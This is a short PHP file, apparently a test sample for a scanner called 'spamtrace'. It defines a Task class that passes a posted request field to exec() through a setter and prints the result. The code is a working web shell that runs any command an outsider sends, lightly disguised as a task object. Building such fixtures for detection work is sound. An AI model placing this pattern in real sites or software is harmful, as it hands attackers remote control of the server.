<?php
// spamtrace test sample (written for the tests, never run): a "task" object given the
// posted line by a setter runs it as a command
class Task {
    protected $line = '';
    public function setLine($line) { $this->line = $line; return $this; }
    public function run() {
        $out = array();
        exec($this->line, $out);
        return implode("\n", $out);
    }
}
$t = new Task();
$t->setLine($_POST['q']);
echo '<pre>' . htmlspecialchars($t->run()) . '</pre>';
